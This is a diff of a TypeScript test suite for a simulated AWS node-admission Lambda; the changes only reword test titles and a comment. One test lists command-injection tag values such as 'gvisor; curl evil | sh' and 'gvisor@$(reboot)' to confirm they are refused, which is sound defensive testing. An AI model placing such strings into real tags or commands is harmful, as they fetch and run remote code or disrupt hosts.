@@ -17,7 +17,7 @@ import {
   taintsOf,
 } from './scenario.ts';
 
-/** Invokes admit with one batch, as a poller does. */
+/** Invokes admission with one batch, as a poller does. */
 async function admit(world: Simulation, Records: readonly object[]): Promise<{ batchItemFailures: unknown[] }> {
   const invocation = world.cloud.lambda.invoke(
     functionName(world, 'Admission'),
@@ -36,7 +36,7 @@ async function admit(world: Simulation, Records: readonly object[]): Promise<{ b
 }
 
 describe('events that are not ours', () => {
-  it('cost one look-up per batch, are no error, and do not keep ours from going on', async () => {
+  it('cost one look-up per batch, are no error, and do not delay ours', async () => {
     const world = await startSimulation();
     const ours = await Promise.all([launch(world), launch(world)]);
     const { ec2 } = world.services;
@@ -63,7 +63,7 @@ describe('events that are not ours', () => {
     expect(ours.map((node) => world.report(node).outcome)).toEqual(['released', 'released']);
   });
 
-  it('of an instance that EC2 does not show yet are looked at again, and forgotten after two minutes', async () => {
+  it('of an instance that EC2 does not show yet are looked at again, and discarded after two minutes', async () => {
     const world = await startSimulation();
     const id = `i-0${randomBytes(8).toString('hex')}`;
     const at = new Date(world.clock.now()).toISOString();
@@ -91,7 +91,7 @@ describe('a batch of nodes', () => {
 
 describe('a batch with one node that SSM refuses', () => {
   it.each(['UnsupportedPlatformType', 'InvalidParameters'])(
-    'as %s: installs the others, and that one ends with what SSM says',
+    "as %s: installs the others, and that one ends with SSM's reason",
     async (code) => {
       const world = await startSimulation([], async () => new ModelledMachine());
       const [refused, ...others] = await Promise.all(Array.from({ length: 4 }, () => launch(world)));
@@ -114,7 +114,7 @@ describe('a batch with one node that SSM refuses', () => {
 
 describe('a tag', () => {
   it.each(['gvisr', 'gvisor@1', 'gvisor; curl evil | sh', 'gvisor@$(reboot)', '`id`'])(
-    'that asks for %j is refused before anything reaches the node, and the gate stays',
+    'that requests %j is refused before anything reaches the node, and the gate stays',
     async (tag) => {
       const world = await startSimulation();
       const node = await launch(world, { tags: { 'airlock:runtime': tag } });
